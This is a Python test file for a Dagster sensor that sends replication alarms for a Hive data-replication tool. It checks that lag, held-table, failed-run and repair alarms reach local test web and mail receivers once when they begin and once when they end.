"""Alarms: once when they begin, once when they end, to real receivers on loopback; lags and runs are given."""

from __future__ import annotations

import json
import logging
import os
import time
from collections.abc import Collection, Iterator, Mapping, Sequence
from contextlib import nullcontext
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import dagster as dg
import pytest
from aiosmtpd.smtp import AuthResult
from dagster._core.definitions.asset_checks.asset_check_evaluation import AssetCheckEvaluationPlanned
from dagster._core.test_utils import create_run_for_test

from hive_replication.connect import Connection
from hive_replication.doctor import Finding, short_retention
from hive_replication.errors import BadRequest, MetastoreError, Refused, ReplicationError, Unreachable
from hive_replication.failover import Phase
from hive_replication.lag import HALF_REVERSED, Lag
from hive_replication.lag.compute_lag import stopped
from hive_replication.load.replica.failover_marks import FailoverMarks
from hive_replication.load.replica.state import ReplicaState
from hive_replication.metastore.types import Database, FieldSchema, Table
from hive_replication.policy import Policy
from hive_replication.policy.checks import Drift
from hive_replication.units import when
from repl_assets.catalog.catalog import CatalogDatabase
from repl_assets.catalog.keys import DATABASE_TAG, POLICY_TAG, Names, Stage
from repl_assets.catalog.specs import Specs
from repl_assets.checks import answered, findings
from repl_assets.checks.findings import EvaluationKey, failed_tables
from repl_assets.checks.no_alarms import no_alarms_check
from repl_assets.dagster_private import ASSET_PARTITION_RANGE_END_TAG, ASSET_PARTITION_RANGE_START_TAG, PARTITION_NAME_TAG
from repl_assets.steps.engine import as_dagster_failure
from repl_assets.typed import log_evaluation, single_op_job
from resources.connection import ReplicationConnection
from resources.notification_channels import MAIL_FROM, MAIL_TO, SLACK, SMTP, WEBHOOK, NotDelivered, Notice, channels
from sensors.alarms import failed_checks, failed_runs, mended_runs, sensor
from sensors.alarms.alarm import SeenRuns, read_cursor, undelivered
from sensors.alarms.dropped_tables import DroppedTables
from sensors.alarms.failed_checks import told
from sensors.alarms.failover_phases import phases_of
from sensors.alarms.replica_alarms import conditions
from sensors.alarms.sensor import DAGSTER_URL, Observed, Watched, alarm_sensor, tick
from sensors.lag import KeptReader
from tests.lags import HELD, LATE, POLICY, WELL
from tests.receivers import MailServer, WebServer, mail_server, web_server

NAMES = Names.of(POLICY)
OF_SALES = {POLICY_TAG: "default", DATABASE_TAG: "sales"}


@pytest.fixture
def web(monkeypatch: pytest.MonkeyPatch) -> Iterator[WebServer]:
    with web_server() as server:
        monkeypatch.setenv(SLACK, f"{server.url}/slack")
        monkeypatch.setenv(WEBHOOK, f"{server.url}/hook")
        monkeypatch.setenv(DAGSTER_URL, "http://dagster:3000/")
        yield server


@pytest.fixture
def mail(monkeypatch: pytest.MonkeyPatch) -> Iterator[MailServer]:
    with mail_server() as server:
        monkeypatch.setenv(SMTP, server.url)
        monkeypatch.setenv(MAIL_TO, "ops@shop.com, jo@shop.com")
        yield server


@dataclass
class Watch:
    """The sensor over ticks."""

    instance: dg.DagsterInstance
    cursor: str | None = None
    now: float = 1_000_000.0
    short: list[Finding] = field(default_factory=list)
    no_dumps: str = ""
    problem: str = ""
    dropped: set[str] = field(default_factory=set)
    phase: Phase | None = None
    policy: Policy = POLICY
    checks: list[dg.AssetCheckKey] = field(default_factory=list)
    of_partitions: list[dg.AssetCheckKey] = field(default_factory=list)
    log: list[str] = field(default_factory=list)

    def tick(self, *lags: Lag) -> str:
        """A minute later; without lags the servers do not answer."""

        def observe(tables: Mapping[str, Collection[str]], failing_over: Collection[str]) -> Observed:
            if not lags:
                raise Unreachable("nobody answers")
            dropped = {name: self.dropped & {*some} for name, some in tables.items()}
            return lags, self.short, self.no_dumps, dropped, {name: self.phase for name in failing_over if self.phase}

        self.now += 60
        context = dg.build_sensor_context(self.instance, cursor=self.cursor)
        handler = logging.Handler()
        handler.emit = lambda record: self.log.append(record.getMessage())  # type: ignore[method-assign]
        context.log.addHandler(handler)
        said = tick(context, self.policy, observe, self.now, Watched(self.checks, self.of_partitions, self.problem))
        self.cursor = context.cursor
        return str(said.skip_message)

    def answer(
        self, check: dg.AssetCheckKey, partition: str | None = None, *, passed: bool, why: str = "", warn: bool = False
    ) -> None:
        severity = dg.AssetCheckSeverity.WARN if warn else dg.AssetCheckSeverity.ERROR
        fields: dict[str, Any] = {"passed": passed, "severity": severity, "description": why or None, "partition": partition}
        event = dg.AssetCheckEvaluation(asset_key=check.asset_key, check_name=check.name, **fields)
        if partition is None:
            self.instance.report_runless_asset_event(event)
            return

        @dg.op(out=dg.Out(dg.Nothing))
        def evaluate() -> None:
            log_evaluation(dg.OpExecutionContext.get(), event)

        single_op_job(evaluate, name="checks", description="", tags={}).execute_in_process(instance=self.instance)

    def announce(
        self,
        check: dg.AssetCheckKey,
        partition: str | None = None,
        *,
        status: dg.DagsterRunStatus = dg.DagsterRunStatus.STARTED,
    ) -> None:
        """A run says that it will answer a check."""
        run = create_run_for_test(self.instance, status=status)
        none = dg.DynamicPartitionsDefinition(name="tables").empty_subset()
        some = none.with_partition_keys([partition]) if partition else None
        planned = AssetCheckEvaluationPlanned(asset_key=check.asset_key, check_name=check.name, partitions_subset=some)
        event = dg.DagsterEvent("ASSET_CHECK_EVALUATION_PLANNED", run.job_name, event_specific_data=planned)
        self.instance.report_dagster_event(event, run.run_id)

    def fail(self, why: str, *keys: dg.AssetKey, **options: Any) -> None:
        run = create_run_for_test(
            self.instance, asset_selection=frozenset(keys) or None, status=dg.DagsterRunStatus.STARTED, **options
        )
        self.instance.report_run_failed(run, why)

    def run(self, *keys: dg.AssetKey, success: bool, **options: Any) -> dg.DagsterRun:
        status = dg.DagsterRunStatus.SUCCESS if success else dg.DagsterRunStatus.FAILURE
        return create_run_for_test(self.instance, asset_selection=frozenset(keys) or None, status=status, **options)


@pytest.fixture
def watch() -> Iterator[Watch]:
    with dg.DagsterInstance.ephemeral() as instance:
        yield Watch(instance)


def with_databases(*names: str) -> Policy:
    return POLICY.model_copy(update={"databases": {name: name for name in names}})


def notified(web: WebServer) -> list[tuple[str, str, str]]:
    posted, web.posted = web.posted, []  # runs and checks come in one notice, then what the servers say in another
    return [(one["state"], one["kind"], one["about"]) for path, notice in posted if path == "/hook" for one in notice["alarms"]]


def test_storage_of_dumps_that_hangs_is_an_alarm_beside_the_others(web: WebServer, watch: Watch) -> None:
    watch.tick(WELL)
    watch.no_dumps = "hdfs://target/dumps has not answered for 15 s"
    watch.tick(LATE)
    watch.tick(LATE)
    assert sorted(notified(web)) == [("begins", "lag", "sales"), ("begins", "unreachable", "dump root")]
    watch.tick()
    assert notified(web) == [("begins", "unreachable", "source or target")]
    watch.no_dumps = ""
    watch.tick(LATE)
    assert sorted(notified(web)) == [("ends", "unreachable", "dump root"), ("ends", "unreachable", "source or target")]


def test_a_policy_that_is_not_valid_is_an_alarm_whether_servers_answer_or_not(web: WebServer, watch: Watch) -> None:
    watch.problem = "policy.yaml: line 3: no setting"
    watch.tick(WELL)
    assert notified(web) == [("begins", "invalid policy", "default")]
    watch.tick()
    assert notified(web) == [("begins", "unreachable", "source or target")]
    watch.tick(WELL)
    assert notified(web) == [("ends", "unreachable", "source or target")]
    watch.problem = ""
    watch.tick()
    assert sorted(notified(web)) == [("begins", "unreachable", "source or target"), ("ends", "invalid policy", "default")]


def test_an_alarm_is_told_once_when_it_begins_and_once_when_it_ends(web: WebServer, mail: MailServer, watch: Watch) -> None:
    assert watch.tick(WELL) == "no alarms"
    assert (web.take(), mail.received) == ({}, [])
    assert watch.tick(LATE) == "1 alarm: lag: sales"
    posted = web.take()
    (alarm,) = posted["/hook"]["alarms"]
    assert (alarm["state"], alarm["kind"], alarm["about"], alarm["ended"]) == ("begins", "lag", "sales", None)
    assert alarm["title"] == "sales is 20 min behind (target 15 min), 50 events waiting"
    assert alarm["url"] == "http://dagster:3000/assets/default/sales__load"
    assert alarm["title"] in posted["/slack"]["text"]
    assert alarm["url"] in posted["/slack"]["text"]
    ((recipients, message),) = mail.received
    assert recipients == ["ops@shop.com", "jo@shop.com"]
    assert message["Subject"] == f"[hive-repl default] begins: {alarm['title']}"
    assert "What to do: check" in str(message.get_payload(decode=True))
    assert f"In Dagster: {alarm['url']}" in str(message.get_payload(decode=True))
    watch.tick(replace(LATE, seconds_behind=1300.0))
    assert (web.take(), len(mail.received)) == ({}, 1)
    assert watch.tick(WELL) == "no alarms"
    assert notified(web) == [("ends", "lag", "sales")]
    assert "ENDS after 2 min" in str(mail.received[1][1].get_payload(decode=True))
    watch.tick(WELL)
    assert (web.take(), len(mail.received)) == ({}, 2)


def test_a_policy_of_the_same_name_in_another_code_location_ends_no_alarm(web: WebServer, watch: Watch) -> None:
    elsewhere = POLICY.model_copy(update={"target": POLICY.target.model_copy(update={"metastore": "thrift://other:1"})})
    other = Watch(watch.instance, policy=elsewhere)
    for lag in (WELL, LATE, LATE):
        watch.tick(lag)
        other.now = watch.now + 30
        other.tick(WELL)
    assert notified(web) == [("begins", "lag", "sales")]


def test_a_channel_that_fails_is_told_later_and_the_others_not_again(web: WebServer, mail: MailServer, watch: Watch) -> None:
    web.status = 503
    watch.tick(LATE)
    watch.tick(LATE)
    assert (len(web.posted), len(mail.received)) == (4, 1)
    web.status = 200
    web.take()
    watch.tick(LATE)
    assert notified(web) == [("begins", "lag", "sales")]
    web.status = 503
    watch.tick(WELL)
    web.status = 200
    web.take()
    watch.tick(WELL)
    assert notified(web) == [("ends", "lag", "sales")]
    assert len(mail.received) == 2
    watch.tick(WELL)
    assert web.take() == {}


def test_an_alarm_that_begins_again_has_begun_now_though_a_channel_was_not_told_of_its_end(
    web: WebServer, watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where a channel was taken out of the environment meanwhile, each later alarm had lasted since then."""
    watch.tick(LATE)
    monkeypatch.delenv(SLACK)
    watch.tick(WELL)
    watch.now += 86_400
    watch.tick(LATE)
    (again,) = web.take()["/hook"]["alarms"]
    assert (again["state"], again["since"]) == ("begins", datetime.fromtimestamp(watch.now, UTC).isoformat())
    watch.tick(LATE)
    assert web.take() == {}
    watch.tick(WELL)
    assert "ENDS after 2 min" in "".join(watch.log)


@pytest.mark.parametrize(("status", "kept"), [(301, 1), (302, 1), (308, 2)])
def test_a_redirect_to_a_page_is_no_notice(web: WebServer, monkeypatch: pytest.MonkeyPatch, status: int, kept: int) -> None:
    """The page was there, so the alarm counted as sent."""
    monkeypatch.delenv(SLACK)
    web.status = status
    (channel,) = channels(os.environ)
    with nullcontext() if kept == 2 else pytest.raises(NotDelivered, match=rf"webhook leads elsewhere \({status} "):
        channel.send(Notice("begins", "text", {"policy": "default"}))
    assert [path for path, _ in web.posted] == ["/hook", "/login/hook"][:kept]


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        (MAIL_TO, "ops@"),
        (MAIL_TO, "ops@shop.com\njo@shop.com"),
        (MAIL_FROM, "the operators\nops@shop.com"),
        (SMTP, "ops:p%C3%A4ss@"),
    ],
)
def test_mail_that_cannot_be_made_keeps_no_other_channel_from_its_notice(
    web: WebServer, watch: Watch, monkeypatch: pytest.MonkeyPatch, variable: str, value: str
) -> None:
    """The tick ended in a traceback: Slack and webhook were told of nothing, and no condition was looked at any more."""
    options: dict[str, Any] = {"authenticator": lambda *_: AuthResult(success=True), "auth_require_tls": False}
    with mail_server(**options) as server:
        monkeypatch.setenv(MAIL_TO, "ops@shop.com")
        monkeypatch.setenv(SMTP, server.url)
        monkeypatch.setenv(variable, server.url.replace("://", f"://{value}") if variable == SMTP else value)
        for _ in range(2):
            watch.tick(LATE)
        assert (notified(web), server.received) == ([("begins", "lag", "sales")], [])
    assert any("mail was not notified" in line and "have to be ASCII, addresses valid" in line for line in watch.log)
    assert not any("xe4" in line or "ä" in line for line in watch.log)


def test_a_recipient_that_is_refused_is_named(mail: MailServer, caplog: pytest.LogCaptureFixture) -> None:
    """Nothing said that only the others were told."""
    mail.refused = "jo@shop.com"
    (channel,) = channels(os.environ)
    channel.send(Notice("begins", "text", {}))
    assert [recipients for recipients, _ in mail.received] == [["ops@shop.com"]]
    assert caplog.messages == ["jo@shop.com gets no mail of alarms: 127.0.0.1 answered 550 no such user"]


def test_held_tables_gaps_and_retention(web: WebServer, watch: Watch) -> None:
    watch.tick(HELD)
    posted = web.take()
    assert [(one["about"], one["url"]) for one in posted["/hook"]["alarms"]] == [
        ("sales.orders", "http://dagster:3000/assets/default/sales/orders")
    ]  # what was taken back by request is none
    assert "no &lt;space&gt;" in posted["/slack"]["text"]
    watch.tick(replace(LATE, gap="events 101 to 120 were purged"))
    assert notified(web) == [("ends", "held table", "sales.orders"), ("begins", "gap", "sales"), ("begins", "lag", "sales")]
    unknown = replace(WELL, gap="events 101 to 120 were purged", waiting=None, seconds_behind=None)
    assert "lag: sales" in watch.tick(unknown)  # nobody knows whether it still is
    watch.tick(WELL)
    assert sorted(notified(web)) == [("ends", "gap", "sales"), ("ends", "lag", "sales")]
    watch.short = list(short_retention(lambda _, default: default, 60_000.0))
    watch.tick(WELL)
    assert notified(web) == [("begins", "low retention", "event retention")]


def test_an_open_alarm_says_what_is_wrong_now(web: WebServer, watch: Watch) -> None:
    watch.tick(replace(LATE, held=HELD.held))
    began = watch.now
    web.take()
    watch.tick(replace(LATE, held=(("orders", "permission denied"),), seconds_behind=1300.0))
    shown = "\n".join(watch.log[-2:])
    assert f"OPEN since {when(began)}: sales.orders is held: permission denied\nWhat to do: give the account" in shown
    assert "sales is 20 min behind" in shown, "its figures are told when it begins, not each minute"
    assert notified(web) == []
    watch.tick(WELL)
    assert "sales.orders is held: permission denied" in str(web.take()["/slack"]["text"])


def test_a_replica_that_is_gone(web: WebServer, watch: Watch) -> None:
    gone = replace(WELL, applied=None, waiting=None, seconds_behind=None)
    watch.tick(gone)
    assert web.take() == {}, "before the first bootstrap"
    watch.tick(replace(LATE, held=HELD.held))
    assert len(notified(web)) == 2
    assert watch.tick(gone).startswith("3 alarms: "), "nobody knows whether lag and held tables end"
    posted = web.take()["/hook"]["alarms"]
    assert [(one["kind"], one["title"]) for one in posted] == [
        ("gap", "sales has no replica any more: none is in sales on the target")
    ]
    damaged = replace(gone, gap="the parameter hive_replication.applied.id is no number")
    assert watch.tick(damaged).startswith("3 alarms: ")
    assert notified(web) == []
    assert watch.tick(WELL) == "no alarms"
    assert {kind for state, kind, _ in notified(web) if state == "ends"} == {"gap", "lag", "held table"}


@pytest.mark.parametrize("how", ["another name", "another metastore"])
def test_a_replica_that_is_to_be_elsewhere_is_not_gone(web: WebServer, watch: Watch, how: str) -> None:
    """The policy names another place since: there is none before its bootstrap, and nobody dropped one."""
    watch.tick(WELL)
    elsewhere = replace(WELL, applied=None, waiting=None, seconds_behind=None)
    if how == "another name":
        elsewhere = replace(elsewhere, target_database="dr")
    else:
        target = POLICY.target.model_copy(update={"metastore": "thrift://other:1"})
        watch.policy = POLICY.model_copy(update={"target": target})
    assert (watch.tick(elsewhere), watch.tick(elsewhere), web.take()) == ("no alarms", "no alarms", {})
    there = replace(WELL, target_database=elsewhere.target_database)
    assert (watch.tick(there), watch.tick(elsewhere)) == ("no alarms", "1 alarm: gap: sales")


def test_a_replica_that_an_earlier_version_knew_by_its_source_is_gone_all_the_same(watch: Watch) -> None:
    watch.cursor = replace(read_cursor(None), replicas=("sales",)).to_json()
    gone = replace(WELL, applied=None, waiting=None, seconds_behind=None)
    assert (watch.tick(gone), watch.tick(gone)) == ("1 alarm: gap: sales", "1 alarm: gap: sales")


def test_a_database_that_the_source_dropped_ends_its_alarms(web: WebServer, watch: Watch) -> None:
    watch.tick(replace(LATE, held=HELD.held))
    dropped = replace(WELL, applied=None, waiting=None, seconds_behind=None, in_source=False)
    assert watch.tick(dropped) == "no alarms"
    assert watch.tick(replace(dropped, in_source=True)) == "no alarms"


def test_servers_that_do_not_answer_end_nothing(web: WebServer, watch: Watch) -> None:
    watch.tick(LATE)
    web.take()
    watch.tick()
    watch.tick()
    assert notified(web) == [("begins", "unreachable", "source or target")]
    watch.tick(LATE)
    assert notified(web) == [("ends", "unreachable", "source or target")]


def test_retention_is_told_only_where_the_lag_comes_near() -> None:
    assert list(short_retention(lambda _, default: default, 3_600.0)) == []
    assert {one.check for one in short_retention(lambda _, default: default, 60_000.0)} == {"event retention"}


def test_no_alarm_for_what_an_operator_stopped_and_one_for_many_tables() -> None:
    assert list(conditions([replace(LATE, stopped="paused since noon")], [], POLICY)) == []
    many = replace(WELL, held=tuple((f"t{number}", "no space") for number in range(30)))
    (alarm,) = conditions([many], [], POLICY)
    assert alarm.title == "30 tables of sales are held"


@pytest.mark.parametrize(
    ("overflow", "path"),
    [(frozenset[str](), "/assets/default/sales/orders"), (frozenset({"sales"}), "/assets/default/sales__tables?")],
)
def test_a_held_table_leads_to_where_it_is_repaired(overflow: frozenset[str], path: str) -> None:
    """Beyond max_tables it led to an asset that does not exist."""
    (alarm,) = conditions([replace(WELL, held=(("orders", "no space"),))], [], POLICY, overflow=overflow)
    assert alarm.path.startswith(path)
    assert alarm.path.endswith("partition=orders") == bool(overflow)


def test_a_failback_that_was_stopped_half_way_is_an_alarm_once_it_is_late() -> None:
    """Sensors load nothing into it, and it was taken for one that an operator had stopped."""
    closed = FailoverMarks("SOURCE", 9, successor="s/sales", opened=7)
    assert stopped(ReplicaState(failed_over=closed.role)) == "closed by a failover"
    half = replace(LATE, stopped=stopped(ReplicaState("s/sales", 7, failed_over=closed.role)))
    (alarm,) = conditions([half], [], POLICY)
    assert (alarm.kind, alarm.advice.rpartition(": ")[2]) == ("lag", "hive-repl failover reverse sales")
    assert list(conditions([replace(half, seconds_behind=1.0)], [], POLICY)) == []


def test_failed_runs(web: WebServer, watch: Watch) -> None:
    load, orders = NAMES.database("sales", "load"), NAMES.table("sales", "orders", "load")
    watch.run(load, success=False)
    watch.tick(WELL)
    assert web.take() == {}  # before the sensor began
    watch.run(dg.AssetKey(["other", "sales__load"]), success=False)
    failed = watch.run(load, success=False)
    watch.tick(WELL)
    posted = web.take()["/hook"]["alarms"]
    assert [(one["about"], one["url"]) for one in posted] == [("windows of sales", f"http://dagster:3000/runs/{failed.run_id}")]
    watch.run(load, success=False)
    watch.run(orders, success=True)
    watch.tick(WELL)
    assert web.take() == {}
    watch.run(load, success=True)
    watch.run(success=False, job_name="record", tags={POLICY_TAG: "default"})
    watch.run(orders, success=False)
    watch.run(orders, success=True)
    watch.tick(WELL)
    assert notified(web) == [("ends", "run failure", "windows of sales"), ("begins", "run failure", "job record")]


@pytest.mark.parametrize(
    "path", [["default"], ["default", "stg_orders"], ["default", "marts", "orders"], ["default", "sales", "a", "b"], ["report"]]
)
def test_runs_of_assets_of_other_projects_that_are_named_like_the_policy_are_none_of_it(
    path: list[str], web: WebServer, watch: Watch
) -> None:
    theirs, load = dg.AssetKey(path), NAMES.database("sales", "load")

    @dg.asset(key=theirs)
    def fails() -> None:
        raise OSError("no space")

    @dg.asset(key=load)
    def works() -> None: ...

    watch.tick(WELL)
    watch.run(theirs, success=False)
    assert watch.tick(WELL) == "no alarms"
    dg.materialize([fails, works], instance=watch.instance, raise_on_error=False)
    assert watch.tick(WELL) == "no alarms", "what failed is not ours"
    watch.run(load, success=False)
    watch.tick(WELL)
    assert notified(web) == [("begins", "run failure", "windows of sales")]


def test_failed_runs_of_a_database_that_the_policy_no_longer_has_end(web: WebServer, watch: Watch) -> None:
    watch.policy = with_databases("sales", "hr")
    watch.tick(WELL)
    watch.run(NAMES.database("hr", "load"), success=False)
    watch.tick(WELL)
    assert notified(web) == [("begins", "run failure", "windows of hr")]
    watch.policy = POLICY
    watch.run(NAMES.database("hr", "load"), success=False)
    watch.tick(WELL)
    assert notified(web) == [("ends", "run failure", "windows of hr")]
    watch.run(NAMES.database("hr", "load"), success=False)
    assert watch.tick(WELL) == "no alarms"
    assert notified(web) == [], "no run will end it"


@pytest.mark.parametrize(
    "mended",
    [WELL, replace(LATE, stopped="opened by a failover"), replace(WELL, applied=None, seconds_behind=None, in_source=False)],
)
def test_a_failed_window_that_is_mended_by_hand_ends(mended: Lag, web: WebServer, watch: Watch) -> None:
    behind = replace(LATE, seconds_behind=5.0)
    watch.tick(behind)
    watch.run(NAMES.database("sales", "load"), success=False)
    watch.tick(mended)
    assert watch.tick(mended) == "1 alarm: run failure: windows of sales", "the run that tries it again says more"
    watch.now += 600
    for lag in (behind, replace(WELL, held=HELD.held[:1]), replace(WELL, gap="purged", seconds_behind=None)):
        assert "run failure: windows of sales" in watch.tick(lag)
    web.take()
    watch.tick(mended)
    assert ("ends", "run failure", "windows of sales") in notified(web)


def test_a_run_that_found_its_database_paused_is_no_alarm(web: WebServer, watch: Watch) -> None:
    """Whoever paused it while a run waited in the queue got the alarm of a failed run, for ten minutes at least."""
    load, paused = NAMES.database("sales", "load"), replace(WELL, stopped="paused since then by anna")
    watch.tick(WELL)
    watch.fail("sales was paused since then by anna, before this load began: once it is resumed", load)
    assert watch.tick(paused) == "no alarms"
    watch.fail("no space", load)
    watch.tick(paused)
    watch.fail("sales was paused since then by anna, before this load began: once it is resumed", load)
    assert watch.tick(paused) == "1 alarm: run failure: windows of sales"
    assert notified(web) == [("begins", "run failure", "windows of sales")]


def test_failed_repairs_end_once_no_table_is_held(web: WebServer, watch: Watch) -> None:
    watch.tick(HELD)
    watch.fail("orders is not repaired: no space", NAMES.table("sales", "orders", "load"))
    watch.fail("orders is not repaired: no space", job_name="repair_sales", tags=OF_SALES)
    watch.tick(HELD)
    watch.now += 600
    assert watch.tick(HELD).startswith("3 alarms: ")
    web.take()
    assert watch.tick(WELL) == "no alarms"
    assert {about for state, _, about in notified(web) if state == "ends"} == {
        "repairs in sales",
        "job repair_sales",
        "sales.orders",
    }


ORDERS: dict[str, Any] = {"ops": {"repair_sales__partitions": {"config": {"table": "Orders", "partitions": [], "checks": []}}}}


@pytest.mark.parametrize(
    ("about", "keys", "options"),
    [
        ("repairs in sales", [NAMES.table("sales", "orders", stage) for stage in ("dump", "load")], {}),
        ("job repair_sales", [], {"job_name": "repair_sales", "tags": OF_SALES, "run_config": ORDERS}),
    ],
)
def test_a_repair_that_failed_otherwise_lasts_until_another_succeeds_or_its_table_is_dropped(
    about: str, keys: list[dg.AssetKey], options: dict[str, Any], web: WebServer, watch: Watch
) -> None:
    watch.tick(WELL)
    watch.fail("the process of this run ended, see the log", *keys, **options)
    watch.tick(WELL)
    watch.now += 600
    assert watch.tick(WELL) == f"1 alarm: run failure: {about}", "nothing was repaired"
    watch.dropped = {"others"}
    assert watch.tick(WELL) == f"1 alarm: run failure: {about}"
    watch.dropped = {"orders"}
    web.take()
    assert watch.tick(WELL) == "no alarms"
    assert notified(web) == [("ends", "run failure", about)]


@pytest.mark.parametrize("before", [WELL, replace(WELL, held=(("others", "no space"),))])
def test_a_failed_repair_of_a_table_that_is_not_held_lasts(before: Lag, web: WebServer, watch: Watch) -> None:
    orders = NAMES.table("sales", "orders", "load")
    watch.tick(before)
    watch.fail("orders is not repaired: the directory of ds=1 was missing", orders)
    watch.tick(before)
    watch.now += 600
    assert watch.tick(WELL) == "1 alarm: run failure: repairs in sales", "the replica is as wrong as before"
    watch.tick(HELD)
    watch.fail("orders is not repaired: the directory of ds=1 was missing", orders)
    assert "repairs in sales" in watch.tick(WELL), "the hold ended before this repair failed"
    watch.run(orders, success=True)
    web.take()
    assert watch.tick(WELL) == "no alarms"
    assert ("ends", "run failure", "repairs in sales") in notified(web)


def test_a_failed_repair_ends_with_the_hold_of_the_tables_that_it_did_not_repair(watch: Watch) -> None:
    """The run repaired others, which were never held."""
    watch.tick(HELD)
    watch.fail("orders is not repaired: no space", *(NAMES.table("sales", name, "load") for name in ("orders", "lines")))
    watch.tick(HELD)
    watch.now += 600
    assert watch.tick(WELL) == "no alarms"


def repair_of(table: str, *partitions: str) -> dict[str, Any]:
    config = {"table": table, "partitions": list(partitions), "checks": []}
    return {"job_name": "repair_sales", "tags": OF_SALES, "run_config": {"ops": {"repair_sales__partitions": {"config": config}}}}


def test_the_repair_of_another_table_mends_no_failed_one(web: WebServer, watch: Watch) -> None:
    """Orders would be wrong, and no alarm open."""
    orders, items = (NAMES.table("sales", name, "load") for name in ("orders", "items"))
    watch.tick(WELL)
    watch.fail("orders: it is refused", orders)
    watch.fail("orders: it is refused", **repair_of("orders"))
    watch.run(items, success=True)
    watch.run(success=True, **repair_of("items"))
    both = ("run failure: repairs in sales", "run failure: job repair_sales")
    assert watch.tick(WELL) == f"2 alarms: {'; '.join(both)}"
    watch.fail("items: it is refused", items)
    watch.fail("items: it is refused", **repair_of("items"))
    watch.now += 600
    watch.dropped = {"items"}
    assert watch.tick(WELL) == f"2 alarms: {'; '.join(both)}"
    titles = [one.alarm.title for one in read_cursor(watch.cursor).alarms.values()]
    assert all(title.endswith("items: it is refused; left to repair: items, orders") for title in titles), titles
    watch.run(orders, success=True)
    watch.run(success=True, **repair_of("orders"))
    web.take()
    assert watch.tick(WELL) == "no alarms"
    assert len(notified(web)) == 2


def test_a_failed_repair_of_partitions_lasts_until_these_are_repaired_or_all_of_the_table(watch: Watch) -> None:
    days, both = NAMES.table("sales", "days", "load"), "2 alarms: run failure: repairs in sales; run failure: job repair_sales"
    for_days: list[dict[str, Any]] = [{"tags": {PARTITION_NAME_TAG: f"ds={n}"}} for n in (1, 2)]
    watch.tick(WELL)
    for last in (repair_of("days", "ds=1"), repair_of("days")):
        watch.fail("the store is full", days, **for_days[0])
        watch.fail("the store is full", **repair_of("days", "ds=1", "ds=2"))
        assert watch.tick(WELL) == both
        watch.run(days, success=True, **for_days[1])
        watch.run(success=True, **repair_of("days", "ds=2", "ds=3"))
        assert watch.tick(WELL) == both
        watch.run(days, success=True, **(for_days[0] if last["run_config"] != repair_of("days")["run_config"] else {}))
        watch.run(success=True, **last)
        assert watch.tick(WELL) == "no alarms"


def test_a_failed_repair_of_a_partition_ends_once_the_source_has_dropped_it(watch: Watch) -> None:
    """No run repairs it any more, and the repair of the others said nothing of it."""
    watch.tick(WELL)
    watch.fail("the store is full", **repair_of("days", "ds=1", "ds=2"))
    watch.tick(WELL)
    watch.now += 600
    watch.dropped = {"days/ds=1"}
    assert watch.tick(WELL) == "1 alarm: run failure: job repair_sales", "the other one is as wrong as before"
    watch.run(success=True, **repair_of("days", "ds=2"))
    assert watch.tick(WELL) == "no alarms"
    watch.fail("the store is full", **repair_of("days", "ds=1", "ds=2"))
    watch.tick(WELL)
    watch.now += 600
    watch.dropped = {"days"}
    assert watch.tick(WELL) == "no alarms"


def test_partitions_that_the_source_has_dropped_are_found() -> None:
    def partitions(database: str, table: str, names: list[str]) -> list[str]:
        if table == "secret":
            raise MetastoreError(f"{database}.{table}: not allowed")
        return [name for name in names if name == "ds=1"]

    table = Table(partitionKeys=[FieldSchema("ds", "string")])
    metastore = SimpleNamespace(
        table=lambda _, name: None if name == "gone" else table, partitions=partitions, table_names=lambda _: ["days", "secret"]
    )
    connection: Any = SimpleNamespace(source=SimpleNamespace(metastore=metastore))
    asked = {
        "days",
        "days/ds=1",
        "days/DS=1",
        "days/ds=2",
        "days/ds=1/h=2",
        "days/ds",
        "days/ds=2...ds=9",
        "secret/ds=2",
        "gone/ds=1",
    }
    assert DroppedTables().of(connection, {"sales": asked}) == {"sales": ["days/ds=2", "gone/ds=1"]}


def test_a_failed_repair_of_all_partitions_ends_once_they_are_all_repaired_however_many_there_are_by_then(watch: Watch) -> None:
    """Dagster calls them by the first and the last one, which another partition changes."""
    days, known = NAMES.table("sales", "days", "load"), str(NAMES.partitions("sales", "days").name)

    def of(first: int, last: int) -> dict[str, Any]:
        return {"tags": {ASSET_PARTITION_RANGE_START_TAG: f"ds={first}", ASSET_PARTITION_RANGE_END_TAG: f"ds={last}"}}

    watch.instance.add_dynamic_partitions(known, [f"ds={n}" for n in range(1, 10)])
    watch.tick(WELL)
    watch.fail("the store is full", days, **of(1, 9))
    assert watch.tick(WELL) == "1 alarm: run failure: repairs in sales"
    watch.run(days, success=True, **of(1, 8))
    assert watch.tick(WELL) == "1 alarm: run failure: repairs in sales"
    (alarm,) = (one.alarm for one in read_cursor(watch.cursor).alarms.values())
    assert alarm.title.endswith("; left to repair: days/ds=9")
    watch.run(days, success=True, **of(7, 99))
    assert watch.tick(WELL) == "1 alarm: run failure: repairs in sales", "nobody knows what that was"
    watch.instance.add_dynamic_partitions(known, ["ds=10"])
    watch.instance.delete_dynamic_partition(known, "ds=9")
    watch.run(days, success=True, **of(1, 10))
    assert watch.tick(WELL) == "no alarms"


def test_of_a_run_that_repaired_some_tables_only_the_others_are_left(watch: Watch) -> None:
    orders, lines = (NAMES.table("sales", name, "load") for name in ("orders", "lines"))
    watch.tick(WELL)
    watch.fail("orders is not repaired: no space", orders, lines)
    watch.tick(WELL)
    watch.run(orders, success=True)
    assert watch.tick(WELL) == "no alarms"


def test_a_repair_in_a_database_in_overflow_is_of_the_table_that_its_partition_is(watch: Watch) -> None:
    watch.tick(WELL)
    watch.fail("no space", NAMES.database("sales", "load"))
    watch.fail("no space", NAMES.tables("sales"), tags={PARTITION_NAME_TAG: "orders"})
    watch.run(NAMES.tables("sales"), success=True, tags={PARTITION_NAME_TAG: "items"})
    assert watch.tick(LATE).startswith("3 alarms: run failure: windows of sales; run failure: repairs in sales; ")
    watch.run(NAMES.tables("sales"), success=True, tags={PARTITION_NAME_TAG: "orders"})
    assert watch.tick(LATE).startswith("2 alarms: run failure: windows of sales; ")


def test_an_alarm_of_many_partitions_keeps_the_tables_only(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(failed_runs, "_MOST_PARTS", 2)
    watch.tick(WELL)
    watch.fail("no space", **repair_of("days", "ds=1", "ds=2", "ds=3"))
    watch.run(success=True, **repair_of("days", "ds=1", "ds=2", "ds=3"))
    assert watch.tick(WELL) == "1 alarm: run failure: job repair_sales"
